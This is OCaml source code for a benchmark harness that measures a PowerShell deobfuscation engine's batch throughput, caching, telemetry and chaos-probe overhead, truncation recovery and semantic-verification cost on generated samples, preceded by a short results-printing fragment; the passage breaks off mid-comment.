  Printf.printf "  %-22s %9s %9s %9s %9s\n" "Tool" "mean(s)" "p90(s)" "max(s)" ">10s";
  List.iter
    (fun r ->
      Printf.printf "  %-22s %9.3f %9.3f %9.3f %9d\n" r.tool r.mean_s r.p90_s
        r.max_s r.over_10s)
    rows;
  Printf.printf
    "  (paper: Invoke-Deobfuscation mean 1.04 s, max < 4 s; others fluctuate \
     beyond 10 s)\n"
