(* Benchmark and experiment harness.

   One target per table/figure of the paper:
     table1 table2 fig5 fig6 table3 table4 table5 case ablate
     throughput obs resilience verify provenance serve selfheal micro
   No argument runs everything except throughput (the parallel-batch
   scaling run, writes BENCH_batch.json), serve (the live-daemon
   throughput/overload run, writes BENCH_serve.json) and micro (the
   Bechamel suite) — each takes a while on its own.  obs (in the default run,
   writes BENCH_obs.json) measures telemetry overhead and exits
   non-zero if the disabled path costs more than 5%.  resilience (in
   the default run, writes BENCH_resilience.json) measures how much of
   a truncated corpus partial-parse recovery salvages and what the
   disabled chaos probes cost, with the same 5% budget.  verify (in
   the default run, writes BENCH_verify.json) measures the semantic
   gate's batch overhead against a 25% budget and fails on any
   unrepaired divergence.  provenance (in the default run, writes
   BENCH_provenance.json) drives the dynamic-only corpus through the
   recover.dynamic stage — majority recovery, zero unrepaired
   divergences, and a 1% budget on the disabled recorder hook.
   selfheal (in the default run, writes
   BENCH_selfheal.json) drives the supervision plane — wedge-injection
   MTTR against a deadline + 2x grace budget, flood survival under
   memory chaos, quarantine convergence on a seeded bad-rule corpus —
   and fails on any unanswered request or missed gate. *)

let line () = print_endline (String.make 78 '-')

let run_table1 () =
  line ();
  Experiments.Table1.print (Experiments.Table1.run ())

let run_table2 () =
  line ();
  Experiments.Table2.print (Experiments.Table2.run ())

let shared_set = lazy (Experiments.Effectiveness.make_samples ())

let run_fig5 () =
  line ();
  Experiments.Effectiveness.print_fig5
    (Experiments.Effectiveness.run_fig5 (Lazy.force shared_set))

let run_fig6 () =
  line ();
  Experiments.Effectiveness.print_fig6
    (Experiments.Effectiveness.run_fig6 (Lazy.force shared_set))

let run_table3 () =
  line ();
  Experiments.Table3.print (Experiments.Table3.run ())

let run_table4 () =
  line ();
  Experiments.Table4.print (Experiments.Table4.run (Lazy.force shared_set))

let run_table5 () =
  line ();
  Experiments.Table5.print (Experiments.Table5.run ())

let run_case () =
  line ();
  Experiments.Case_study.print ()

let run_ablate () =
  line ();
  Experiments.Ablation.print (Experiments.Ablation.run ())

let run_amsi () =
  line ();
  Experiments.Amsi_compare.print
    (Experiments.Amsi_compare.run (Lazy.force shared_set))

let run_unknown () =
  line ();
  Experiments.Unknown_techniques.print (Experiments.Unknown_techniques.run ())

let run_limits () =
  line ();
  Experiments.Limitations.print (Experiments.Limitations.run ())

let run_funnel () =
  line ();
  Experiments.Preprocess_stats.print (Experiments.Preprocess_stats.run ())

(* ---------- batch throughput (domain-pool scaling) ---------- *)

(* the recovery-phase wall total this suite measured before closure
   compilation and the cross-file cache landed — the regression anchor for
   the 5x gate below *)
let baseline_recovery_ms = 883.7

let run_throughput () =
  line ();
  let module Guard = Pscommon.Guard in
  let count = 64 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_batch" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  (* ask for at least 4 so the domain-pool path is exercised where the
     cores exist; run_files clamps to the detected cores and reports both
     levels, so on a small box this is an honest sequential run *)
  let cores = Domain.recommended_domain_count () in
  let jobs_n = max 4 (Pscommon.Pool.recommended_jobs ()) in
  let run ?options ?piece_cache_dir ~jobs tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    let t0 = Guard.now () in
    let summary =
      Deobf.Batch.run_files ?options ~timeout_s:30.0 ~out_dir ~jobs
        ?piece_cache_dir files
    in
    let wall_s = Guard.now () -. t0 in
    (summary, out_dir, wall_s)
  in
  Printf.printf
    "batch throughput: %d samples (seed %d), jobs 1 vs %d, cache \
     on/off/persistent\n"
    count seed jobs_n;
  let s1, out1, wall1 = run ~jobs:1 "j1" in
  let sn, outn, walln = run ~jobs:jobs_n "jN" in
  (* the same corpus with the piece cache ablated off, and with the
     persistent tier cold then warm: all four output sets must be
     byte-identical to the jobs=1 run *)
  let no_cache_options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Recover.default_options with
          Deobf.Recover.use_piece_cache = false } }
  in
  let _s_off, out_off, _wall_off =
    run ~options:no_cache_options ~jobs:1 "nocache"
  in
  let piece_cache_dir = Filename.concat dir "piece-cache" in
  let s_cold, out_cold, _ = run ~piece_cache_dir ~jobs:1 "cold" in
  let s_warm, out_warm, _ = run ~piece_cache_dir ~jobs:1 "warm" in
  let identical_to out1 d2 =
    List.for_all
      (fun file ->
        let base = Filename.basename file in
        let read d =
          In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
        in
        String.equal (read out1) (read d2))
      files
  in
  let id_jobs = identical_to out1 outn in
  let id_cache_off = identical_to out1 out_off in
  let id_cold = identical_to out1 out_cold in
  let id_warm = identical_to out1 out_warm in
  let identical = id_jobs && id_cache_off && id_cold && id_warm in
  let sum s f =
    List.fold_left (fun acc o -> acc + f o) 0 s.Deobf.Batch.outcomes
  in
  let attempted =
    sum sn (fun o -> o.Deobf.Batch.stats.Deobf.Recover.pieces_attempted)
  in
  let hits = sum sn (fun o -> o.Deobf.Batch.stats.Deobf.Recover.cache_hits) in
  let in_run_hit_rate =
    if attempted = 0 then 0.0 else float_of_int hits /. float_of_int attempted
  in
  (* the warm persistent run is where the cache earns its keep: every
     cacheable piece was answered without evaluation *)
  let warm_attempted =
    sum s_warm (fun o -> o.Deobf.Batch.stats.Deobf.Recover.pieces_attempted)
  in
  let warm_hits =
    sum s_warm (fun o -> o.Deobf.Batch.stats.Deobf.Recover.cache_hits)
  in
  let warm_hit_rate =
    if warm_attempted = 0 then 0.0
    else float_of_int warm_hits /. float_of_int warm_attempted
  in
  (* batch-scale hit rate: every result lookup the shared caches answered
     across the one-shot and warm runs, hit or miss *)
  let cache_hit_rate =
    let tiers = [ sn; s_warm ] in
    let pick f =
      List.fold_left
        (fun acc s ->
          match s.Deobf.Batch.cache_stats with
          | Some cs -> acc + f cs
          | None -> acc)
        0 tiers
    in
    let lookups = pick (fun cs -> cs.Deobf.Recover.Cache.lookups) in
    let h = pick (fun cs -> cs.Deobf.Recover.Cache.hits) in
    if lookups = 0 then 0.0 else float_of_int h /. float_of_int lookups
  in
  let persistent_loads =
    match s_warm.Deobf.Batch.cache_stats with
    | Some cs -> cs.Deobf.Recover.Cache.persistent_loads
    | None -> 0
  in
  let phase_totals =
    List.fold_left
      (fun acc o ->
        List.fold_left
          (fun acc (phase, ms) ->
            let prev = try List.assoc phase acc with Not_found -> 0.0 in
            (phase, prev +. ms) :: List.remove_assoc phase acc)
          acc o.Deobf.Batch.phase_ms)
      [] sn.Deobf.Batch.outcomes
  in
  let recovery_ms =
    try List.assoc "recovery" phase_totals with Not_found -> 0.0
  in
  let recovery_speedup =
    if recovery_ms > 0.0 then baseline_recovery_ms /. recovery_ms else 0.0
  in
  let pieces_per_s =
    if recovery_ms > 0.0 then
      float_of_int attempted /. (recovery_ms /. 1000.0)
    else 0.0
  in
  let speedup = if walln > 0.0 then wall1 /. walln else 0.0 in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"jobs\": %d," jobs_n;
        Printf.sprintf "  \"jobs_effective\": %d," sn.Deobf.Batch.jobs_effective;
        Printf.sprintf "  \"cores\": %d," cores;
        Printf.sprintf "  \"wall_s_jobs1\": %.3f," wall1;
        Printf.sprintf "  \"wall_s_jobsN\": %.3f," walln;
        Printf.sprintf "  \"samples_per_s_jobs1\": %.2f,"
          (float_of_int count /. wall1);
        Printf.sprintf "  \"samples_per_s_jobsN\": %.2f,"
          (float_of_int count /. walln);
        Printf.sprintf "  \"speedup\": %.2f," speedup;
        Printf.sprintf "  \"outputs_identical\": %b," identical;
        Printf.sprintf
          "  \"outputs_identical_detail\": {\"jobs\": %b, \"cache_off\": %b, \
           \"persistent_cold\": %b, \"persistent_warm\": %b},"
          id_jobs id_cache_off id_cold id_warm;
        Printf.sprintf "  \"pieces_attempted\": %d," attempted;
        Printf.sprintf "  \"cache_hits\": %d," hits;
        Printf.sprintf "  \"cache_hit_rate\": %.3f," cache_hit_rate;
        Printf.sprintf "  \"in_run_hit_rate\": %.3f," in_run_hit_rate;
        Printf.sprintf "  \"warm_hit_rate\": %.3f," warm_hit_rate;
        Printf.sprintf "  \"persistent_loads\": %d," persistent_loads;
        Printf.sprintf "  \"recovery_ms\": %.1f," recovery_ms;
        Printf.sprintf "  \"baseline_recovery_ms\": %.1f," baseline_recovery_ms;
        Printf.sprintf "  \"recovery_speedup\": %.1f," recovery_speedup;
        Printf.sprintf "  \"pieces_per_s\": %.0f," pieces_per_s;
        Printf.sprintf "  \"phase_ms\": {%s},"
          (String.concat ", "
             (List.map
                (fun (p, ms) -> Printf.sprintf "\"%s\": %.1f" p ms)
                (List.sort compare phase_totals)));
        Printf.sprintf "  \"clean\": %d," sn.Deobf.Batch.clean;
        Printf.sprintf "  \"degraded\": %d" sn.Deobf.Batch.degraded;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_batch.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  jobs=1: %.2fs (%.1f samples/s)\n  jobs=%d (effective %d): %.2fs \
     (%.1f samples/s)\n"
    wall1
    (float_of_int count /. wall1)
    jobs_n sn.Deobf.Batch.jobs_effective walln
    (float_of_int count /. walln);
  Printf.printf "  speedup: %.2fx, outputs identical: %b\n" speedup identical;
  Printf.printf
    "  cache: %d hits / %d attempted in-run (%.1f%%), warm re-run %.1f%%, \
     batch-scale %.1f%%, %d persistent loads\n"
    hits attempted (100.0 *. in_run_hit_rate) (100.0 *. warm_hit_rate)
    (100.0 *. cache_hit_rate) persistent_loads;
  Printf.printf
    "  recovery: %.1f ms (baseline %.1f ms, %.1fx), %.0f pieces/s\n"
    recovery_ms baseline_recovery_ms recovery_speedup pieces_per_s;
  List.iter
    (fun (p, ms) -> Printf.printf "  phase %-10s %8.1f ms\n" p ms)
    (List.sort compare phase_totals);
  print_endline "  wrote BENCH_batch.json";
  (* the speedup gate is meaningless where there is no parallelism to buy:
     skip it (loudly) on a single core rather than fail on an honest ~1x *)
  if cores <= 1 then
    Printf.printf
      "  speedup gate skipped: single core (recommended_domain_count = %d)\n"
      cores
  else if speedup < 1.2 then begin
    Printf.eprintf
      "FAIL: jobs=%d speedup %.2fx below the 1.2x floor on %d cores\n" jobs_n
      speedup cores;
    exit 1
  end;
  if not identical then begin
    Printf.eprintf
      "FAIL: outputs differ (jobs %b, cache off %b, cold %b, warm %b)\n"
      id_jobs id_cache_off id_cold id_warm;
    exit 1
  end;
  if recovery_speedup < 5.0 then begin
    Printf.eprintf
      "FAIL: recovery %.1f ms is only %.1fx the %.1f ms baseline (5x floor)\n"
      recovery_ms recovery_speedup baseline_recovery_ms;
    exit 1
  end;
  if pieces_per_s < 2_000.0 then begin
    Printf.eprintf
      "FAIL: recovery throughput %.0f pieces/s below the 2000/s floor\n"
      pieces_per_s;
    exit 1
  end;
  if cache_hit_rate <= 0.5 then begin
    Printf.eprintf
      "FAIL: batch-scale cache hit rate %.3f not above 0.50\n" cache_hit_rate;
    exit 1
  end;
  if persistent_loads = 0 then begin
    Printf.eprintf "FAIL: warm run answered no lookups from the persistent tier\n";
    exit 1
  end;
  ignore (s1, s_cold)

(* ---------- telemetry overhead (observability) ---------- *)

(* Measures the two costs of the telemetry layer on a fixed-seed corpus:
   the *enabled* cost (tracing every file vs not tracing) and the
   *disabled* cost (what instrumented call sites cost when no trace is
   installed — the path every production run without --trace takes).  The
   disabled overhead is estimated as events-per-sample x per-call cost
   against the per-sample wall time, and the run fails loudly if it
   exceeds 5% — the regression budget for instrumenting hot paths. *)
let run_obs () =
  line ();
  let module T = Pscommon.Telemetry in
  let module Guard = Pscommon.Guard in
  let count = 48 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_obs" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "telemetry overhead: %d samples (seed %d)\n" count seed;
  let run ?trace_dir ?trace_sample tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    let t0 = Guard.now () in
    let summary =
      Deobf.Batch.run_files ~timeout_s:30.0 ~out_dir ?trace_dir ?trace_sample
        ~jobs:1 files
    in
    ignore summary;
    (out_dir, Guard.now () -. t0)
  in
  let out_plain, wall_plain = run "plain" in
  let trace_dir = Filename.concat dir "traces" in
  let out_traced, wall_traced = run ~trace_dir "traced" in
  (* sampled tracing: every 8th file serializes its trace; the rest record
     into a reusable per-domain scratch ring and skip JSONL entirely *)
  let trace_sample = 8 in
  let _out_sampled, wall_sampled =
    run ~trace_dir:(Filename.concat dir "traces_sampled") ~trace_sample
      "sampled"
  in
  let identical =
    List.for_all
      (fun file ->
        let base = Filename.basename file in
        let read d =
          In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
        in
        String.equal (read out_plain) (read out_traced))
      files
  in
  (* total events across the run, from each trace's summary line *)
  let summary_events path =
    try
      In_channel.with_open_bin path @@ fun ic ->
      let text = In_channel.input_all ic in
      (* the trailing summary line:
         {"kind": "summary", "trace_id": ..., "events": N, ...} *)
      let marker = "\"summary\"" in
      let key = "\"events\": " in
      let klen = String.length key in
      let rec find ~armed i =
        if i + klen > String.length text then 0
        else if
          (not armed)
          && i + String.length marker <= String.length text
          && String.sub text i (String.length marker) = marker
        then find ~armed:true (i + String.length marker)
        else if armed && String.sub text i klen = key then
          let stop = ref (i + klen) in
          while
            !stop < String.length text
            && text.[!stop] >= '0'
            && text.[!stop] <= '9'
          do
            incr stop
          done;
          int_of_string (String.sub text (i + klen) (!stop - (i + klen)))
        else find ~armed (i + 1)
      in
      find ~armed:false 0
    with _ -> 0
  in
  let total_events =
    List.fold_left
      (fun acc file ->
        acc
        + summary_events
            (Filename.concat trace_dir (Filename.basename file ^ ".trace.jsonl")))
      0 files
  in
  let events_per_sample = float_of_int total_events /. float_of_int count in
  (* disabled fast path: cost of an instrumented call site with no ambient
     trace installed *)
  let calls = 1_000_000 in
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let percall_ns = (Guard.now () -. t0) *. 1e9 /. float_of_int calls in
  (* the flight recorder rides the same call sites: disabled it adds one
     atomic load, enabled it records into the per-domain ring (still no
     serialization — that only happens at dump time) *)
  let flight_dir = Filename.concat dir "flight" in
  T.Flight.set_sink (Some flight_dir);
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let flight_on_percall_ns =
    (Guard.now () -. t0) *. 1e9 /. float_of_int calls
  in
  T.Flight.set_sink None;
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let flight_off_percall_ns =
    (Guard.now () -. t0) *. 1e9 /. float_of_int calls
  in
  (* scrape cost, with the registry warm from the batch runs above: what
     one GET /metrics pays to render the exposition (the endpoint's own
     socket I/O is negligible next to this) *)
  let scrapes = 200 in
  let t0 = Guard.now () in
  let body = ref "" in
  for _ = 1 to scrapes do
    body := T.render_prometheus ()
  done;
  let scrape_ms = (Guard.now () -. t0) *. 1000.0 /. float_of_int scrapes in
  let scrape_bytes = String.length !body in
  let per_sample_ns = wall_plain *. 1e9 /. float_of_int count in
  let disabled_overhead_pct =
    if per_sample_ns > 0.0 then
      100.0 *. (events_per_sample *. percall_ns) /. per_sample_ns
    else 0.0
  in
  let traced_overhead_pct =
    if wall_plain > 0.0 then
      100.0 *. (wall_traced -. wall_plain) /. wall_plain
    else 0.0
  in
  let sampled_overhead_pct =
    if wall_plain > 0.0 then
      100.0 *. (wall_sampled -. wall_plain) /. wall_plain
    else 0.0
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_untraced\": %.3f," wall_plain;
        Printf.sprintf "  \"wall_s_traced\": %.3f," wall_traced;
        Printf.sprintf "  \"wall_s_sampled\": %.3f," wall_sampled;
        Printf.sprintf "  \"trace_sample\": %d," trace_sample;
        Printf.sprintf "  \"samples_per_s_untraced\": %.2f,"
          (float_of_int count /. wall_plain);
        Printf.sprintf "  \"samples_per_s_traced\": %.2f,"
          (float_of_int count /. wall_traced);
        Printf.sprintf "  \"outputs_identical\": %b," identical;
        Printf.sprintf "  \"events_total\": %d," total_events;
        Printf.sprintf "  \"events_per_sample\": %.1f," events_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.3f,"
          disabled_overhead_pct;
        Printf.sprintf "  \"traced_overhead_pct\": %.1f," traced_overhead_pct;
        Printf.sprintf "  \"sampled_overhead_pct\": %.1f," sampled_overhead_pct;
        Printf.sprintf "  \"flight_disabled_percall_ns\": %.1f,"
          flight_off_percall_ns;
        Printf.sprintf "  \"flight_enabled_percall_ns\": %.1f,"
          flight_on_percall_ns;
        Printf.sprintf "  \"scrape_render_ms\": %.3f," scrape_ms;
        Printf.sprintf "  \"scrape_bytes\": %d" scrape_bytes;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_obs.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  untraced: %.2fs (%.1f samples/s)\n  traced:   %.2fs (%.1f samples/s, \
     +%.1f%%)\n"
    wall_plain
    (float_of_int count /. wall_plain)
    wall_traced
    (float_of_int count /. wall_traced)
    traced_overhead_pct;
  Printf.printf "  sampled (1/%d): %.2fs (%+.1f%%)\n" trace_sample wall_sampled
    sampled_overhead_pct;
  Printf.printf "  outputs identical: %b\n" identical;
  Printf.printf "  events: %d total, %.1f per sample\n" total_events
    events_per_sample;
  Printf.printf "  disabled path: %.1f ns/call, est. overhead %.3f%%\n"
    percall_ns disabled_overhead_pct;
  Printf.printf "  flight recorder: %.1f ns/call off, %.1f ns/call recording\n"
    flight_off_percall_ns flight_on_percall_ns;
  Printf.printf "  scrape render: %.3f ms, %d bytes\n" scrape_ms scrape_bytes;
  print_endline "  wrote BENCH_obs.json";
  if disabled_overhead_pct > 5.0 then begin
    Printf.eprintf
      "FAIL: disabled-telemetry overhead %.3f%% exceeds the 5%% budget\n"
      disabled_overhead_pct;
    exit 1
  end;
  if sampled_overhead_pct > 30.0 then begin
    Printf.eprintf
      "FAIL: sampled-tracing overhead %.1f%% exceeds the 30%% budget\n"
      sampled_overhead_pct;
    exit 1
  end

(* ---------- resilience (partial-parse recovery + chaos probes) ---------- *)

(* Two questions, on a fixed-seed corpus truncated at 25/50/75%: how much
   of the text that an all-or-nothing parser would forfeit does
   partial-parse recovery salvage (recovered-bytes ratio, majority-recovery
   rate), and what do the chaos probe points cost when injection is
   disabled — the path every production run takes.  Fails loudly when the
   disabled-probe overhead exceeds 5% of per-sample wall time, or when
   fewer than half of the parse-failed files at the 50% cut recover a
   region — the same enforce-in-CI shape as the telemetry bench. *)
let run_resilience () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let count = 32 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  Printf.printf "resilience: %d samples (seed %d), truncated at 25/50/75%%\n"
    count seed;
  let level frac =
    let failed_bytes = ref 0 and parseable_bytes = ref 0 in
    let parse_failed = ref 0 and recovered = ref 0 in
    let t0 = Guard.now () in
    List.iter
      (fun (s : Corpus.Generator.sample) ->
        let src = Chaos.Mutate.truncate_at frac s.obfuscated in
        let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
        let parse_failure =
          List.exists
            (fun (f : Deobf.Engine.failure_site) ->
              f.Deobf.Engine.phase = "parse")
            g.Deobf.Engine.failures
        in
        if parse_failure then begin
          incr parse_failed;
          failed_bytes := !failed_bytes + String.length src;
          parseable_bytes :=
            !parseable_bytes
            + Psparse.Segment.parseable_bytes (Psparse.Segment.segment src);
          if g.Deobf.Engine.regions_recovered >= 1 then incr recovered
        end)
      samples;
    let wall = Guard.now () -. t0 in
    let ratio =
      if !failed_bytes = 0 then 0.0
      else float_of_int !parseable_bytes /. float_of_int !failed_bytes
    in
    (frac, !parse_failed, !recovered, ratio, wall)
  in
  let levels = List.map level [ 0.25; 0.5; 0.75 ] in
  List.iter
    (fun (frac, failed, recov, ratio, wall) ->
      Printf.printf
        "  cut %.0f%%: %d/%d parse-failed, %d recovered >=1 region, %.1f%% \
         of bytes salvageable (%.2fs)\n"
        (100.0 *. frac) failed count recov (100.0 *. ratio) wall)
    levels;
  (* disabled fast path: one atomic load and a comparison per probe *)
  Chaos.set None;
  let calls = 1_000_000 in
  let t0 = Guard.now () in
  for _ = 1 to calls do
    Chaos.probe "bench.resilience"
  done;
  let percall_ns = (Guard.now () -. t0) *. 1e9 /. float_of_int calls in
  (* probes per sample: a rate-zero config reaches the enabled slow path
     (and the draws counter) at every probe without ever injecting *)
  Chaos.set (Some { Chaos.seed = 1; rate = 0.0; site_rates = [] });
  Chaos.reset_draws ();
  let t0 = Guard.now () in
  List.iter
    (fun (s : Corpus.Generator.sample) ->
      ignore (Deobf.Engine.run_guarded ~timeout_s:10.0 s.obfuscated))
    samples;
  let wall_clean = Guard.now () -. t0 in
  Chaos.set None;
  let probes_total = Chaos.draws () in
  let probes_per_sample = float_of_int probes_total /. float_of_int count in
  let per_sample_ns = wall_clean *. 1e9 /. float_of_int count in
  let disabled_overhead_pct =
    if per_sample_ns > 0.0 then
      100.0 *. (probes_per_sample *. percall_ns) /. per_sample_ns
    else 0.0
  in
  let majority_at_half =
    match levels with
    | [ _; (_, failed, recov, _, _); _ ] -> failed = 0 || 2 * recov > failed
    | _ -> false
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"levels\": [%s],"
          (String.concat ", "
             (List.map
                (fun (frac, failed, recov, ratio, wall) ->
                  Printf.sprintf
                    "{\"cut\": %.2f, \"parse_failed\": %d, \"recovered\": \
                     %d, \"salvageable_bytes_ratio\": %.3f, \"wall_s\": %.3f}"
                    frac failed recov ratio wall)
                levels));
        Printf.sprintf "  \"majority_recovered_at_half\": %b," majority_at_half;
        Printf.sprintf "  \"probes_per_sample\": %.1f," probes_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.3f" disabled_overhead_pct;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_resilience.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf "  probes: %.1f per sample, disabled path %.1f ns/call, est. \
                 overhead %.3f%%\n"
    probes_per_sample percall_ns disabled_overhead_pct;
  print_endline "  wrote BENCH_resilience.json";
  if disabled_overhead_pct > 5.0 then begin
    Printf.eprintf
      "FAIL: disabled-chaos overhead %.3f%% exceeds the 5%% budget\n"
      disabled_overhead_pct;
    exit 1
  end;
  if not majority_at_half then begin
    Printf.eprintf
      "FAIL: fewer than half of parse-failed files recovered a region at \
       the 50%% cut\n";
    exit 1
  end

(* ---------- semantic-verification overhead (the --verify gate) ---------- *)

(* What does the differential gate cost on the corpus a batch run actually
   processes, and does it hold its own contract?  Runs the fixed-seed
   corpus through the batch pipeline with verification off and on,
   reporting samples/s for both, the verdict histogram, and the rollback
   rate.

   Two costs are kept apart.  Differential verification irreducibly
   executes the original and the output once each in the sandbox — that is
   the price of admission, measured directly and reported as
   [reference_runs_s] (on interpreted micro-samples it is comparable to
   deobfuscation itself, so raw [overhead_pct] lands well above any small
   budget).  Everything the gate adds {e beyond} those two executions —
   journal bookkeeping, log comparison, bisection replays, rollback
   re-runs, verdict plumbing — is the machinery this bench regresses on:
   [gate_overhead_pct], budgeted at 25% of the unverified wall.  Fails
   loudly when the machinery exceeds that budget, or when any sample ends
   [diverged] — a divergence the bisection could not repair means either an
   engine rewrite or the gate itself regressed. *)
let run_verify () =
  line ();
  let module Guard = Pscommon.Guard in
  let count = 32 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_verify" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "semantic verification: %d samples (seed %d), gate off vs on\n"
    count seed;
  let run ~verify tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    (* best of 3: these walls are tens of milliseconds, where a single GC
       major slice or scheduler blip reads as tens of percent *)
    let best = ref infinity and last = ref None in
    for rep = 1 to 3 do
      let t0 = Guard.now () in
      let summary =
        Deobf.Batch.run_files ~timeout_s:30.0
          ~out_dir:(Printf.sprintf "%s_r%d" out_dir rep) ~jobs:1 ~verify files
      in
      let wall = Guard.now () -. t0 in
      if wall < !best then best := wall;
      last := Some summary
    done;
    (Option.get !last, !best)
  in
  let _s_off, wall_off = run ~verify:false "plain" in
  let s_on, wall_on = run ~verify:true "verified" in
  (* the irreducible reference executions, mirrored outside the gate: for
     every file the gate actually verified (output differs from the
     input), one sandbox run of each side *)
  let reference_runs_s =
    let t0 = Guard.now () in
    List.iter
      (fun (o : Deobf.Batch.outcome) ->
        match o.Deobf.Batch.output_file with
        | Some out_file when o.Deobf.Batch.changed ->
            let read p = In_channel.with_open_bin p In_channel.input_all in
            ignore (Sandbox.run_for_verify (read o.Deobf.Batch.file));
            ignore (Sandbox.run_for_verify (read out_file))
        | _ -> ())
      s_on.Deobf.Batch.outcomes;
    Guard.now () -. t0
  in
  let tally v =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           match o.Deobf.Batch.verdict with
           | Some verdict -> Deobf.Verify.verdict_name verdict = v
           | None -> false)
         s_on.Deobf.Batch.outcomes)
  in
  let equivalent = tally "equivalent" in
  let rolled_back = tally "rolled_back" in
  let diverged = tally "diverged" in
  let unverifiable = tally "unverifiable" in
  let rollback_rate = float_of_int rolled_back /. float_of_int count in
  let overhead_pct =
    if wall_off > 0.0 then 100.0 *. (wall_on -. wall_off) /. wall_off else 0.0
  in
  let gate_overhead_pct =
    if wall_off > 0.0 then
      Float.max 0.0
        (100.0 *. (wall_on -. wall_off -. reference_runs_s) /. wall_off)
    else 0.0
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_unverified\": %.3f," wall_off;
        Printf.sprintf "  \"wall_s_verified\": %.3f," wall_on;
        Printf.sprintf "  \"samples_per_s_unverified\": %.2f,"
          (float_of_int count /. wall_off);
        Printf.sprintf "  \"samples_per_s_verified\": %.2f,"
          (float_of_int count /. wall_on);
        Printf.sprintf "  \"overhead_pct\": %.1f," overhead_pct;
        Printf.sprintf "  \"reference_runs_s\": %.3f," reference_runs_s;
        Printf.sprintf "  \"gate_overhead_pct\": %.1f," gate_overhead_pct;
        Printf.sprintf
          "  \"verdicts\": {\"equivalent\": %d, \"rolled_back\": %d, \
           \"diverged\": %d, \"unverifiable\": %d},"
          equivalent rolled_back diverged unverifiable;
        Printf.sprintf "  \"rollback_rate\": %.3f" rollback_rate;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_verify.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  unverified: %.2fs (%.1f samples/s)\n  verified:   %.2fs (%.1f \
     samples/s, +%.1f%% raw)\n"
    wall_off
    (float_of_int count /. wall_off)
    wall_on
    (float_of_int count /. wall_on)
    overhead_pct;
  Printf.printf
    "  reference executions: %.2fs; gate machinery beyond them: +%.1f%%\n"
    reference_runs_s gate_overhead_pct;
  Printf.printf
    "  verdicts: %d equivalent, %d rolled_back, %d diverged, %d \
     unverifiable (rollback rate %.1f%%)\n"
    equivalent rolled_back diverged unverifiable (100.0 *. rollback_rate);
  print_endline "  wrote BENCH_verify.json";
  if gate_overhead_pct > 25.0 then begin
    Printf.eprintf
      "FAIL: gate-machinery overhead %.1f%% exceeds the 25%% budget\n"
      gate_overhead_pct;
    exit 1
  end;
  if diverged > 0 then begin
    Printf.eprintf
      "FAIL: %d sample(s) diverged without a successful rollback\n" diverged;
    exit 1
  end

(* ---------- dynamic value provenance (the recover.dynamic stage) ---------- *)

(* Does the provenance-guided dynamic stage actually recover what static
   tracing cannot, and what does carrying it cost?  The corpus is
   dynamic-only: every sample hides its payload behind a loop-built
   string, a [+=]/[-join] accumulator, or a conditional payload pick —
   shapes Algorithm 1 refuses to trace.  Three gates, each fatal:
   {ul
   {- a majority of the rows must be folded by the dynamic stage
      ([dynamic_recovered >= 1]);}
   {- with the semantic gate on, no row may end [diverged] — every
      dynamic substitution is either proven equivalent or rolled back;}
   {- the disabled path — the per-write recorder hook every evaluation
      pays when [use_dynamic] is off — must cost under 1% of the static
      wall.  The hook is one option match; its per-call cost is bounded
